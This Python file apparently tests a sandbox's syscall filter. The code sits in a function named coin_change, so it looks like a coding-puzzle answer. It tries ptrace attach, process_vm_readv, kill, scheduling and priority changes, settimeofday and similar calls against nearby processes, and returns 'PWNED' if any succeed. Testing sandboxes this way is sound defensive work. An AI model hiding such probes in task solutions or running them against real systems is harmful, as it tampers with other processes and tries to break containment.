"""Sessions, groups, schedulers, affinities, priorities, limits, memory and descriptors of other processes, by every call that takes a process number."""

import ctypes
import errno
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
libc.syscall.restype = ctypes.c_long
ARM = platform.machine() == "aarch64"


def call(number, *args):
    """What the kernel says: "" where the filter refused it, else the result or the error's name."""
    ctypes.set_errno(0)
    result = libc.syscall(number[ARM] if isinstance(number, tuple) else number, *args)
    if result >= 0:
        return str(result) if result else "0"
    code = ctypes.get_errno()
    return "" if code in (errno.EPERM, errno.ENOSYS) else errno.errorcode.get(code, str(code))


def coin_change(coins, amount):
    me, got, buffer = os.getpid(), [], ctypes.create_string_buffer(256)
    for pid in {os.getppid(), *range(1, 60), *range(max(1, me - 20), me + 20)} - {0, me}:
        for name, number, args in (
            ("getsid", (124, 156), (pid,)),
            ("getpgid", (121, 155), (pid,)),
            ("sched_getscheduler", (145, 120), (pid,)),
            ("sched_getparam", (143, 121), (pid, buffer)),
            ("sched_getaffinity", (204, 123), (pid, 128, buffer)),
            ("sched_getattr", (315, 275), (pid, buffer, 56, 0)),
            ("sched_rr_get_interval", (148, 127), (pid, buffer)),
            ("sched_setaffinity", (203, 122), (pid, 128, buffer)),
            ("sched_setscheduler", (144, 119), (pid, 0, buffer)),
            ("setpgid", (109, 154), (pid, pid)),
            ("getpriority", (140, 141), (0, pid)),
            ("setpriority", (141, 140), (0, pid, 19)),
            ("ioprio_get", (252, 31), (1, pid)),
            ("ioprio_set", (251, 30), (1, pid, 0)),
            ("prlimit64", (302, 261), (pid, 7, None, buffer)),
            ("kcmp", (312, 272), (me, pid, 2, 0, 0)),
            ("migrate_pages", (256, 238), (pid, 64, buffer, buffer)),
            ("move_pages", (279, 239), (pid, 0, None, None, None, 0)),
            ("pidfd_open", 434, (pid, 0)),
            ("process_vm_readv", (310, 270), (pid, buffer, 0, buffer, 0, 0)),
            ("ptrace", (101, 117), (16, pid, 0, 0)),
            ("kill", (62, 129), (pid, 0)),
            ("tkill", (200, 130), (pid, 0)),
            ("tgkill", (234, 131), (pid, pid, 0)),
            ("rt_sigqueueinfo", (129, 138), (pid, 0, buffer)),
            ("capget", (125, 90), (buffer, buffer)),
            ("perf_event_open", (298, 241), (buffer, pid, -1, -1, 0)),
        ):
            if result := call(number, *args):
                got.append((pid, name, result))
    for number in ((99, 179), (164, 170)):  # sysinfo, settimeofday
        if result := call(number, buffer):
            got.append((number, result))
    return f"PWNED:{got[:5]}" if got else 0
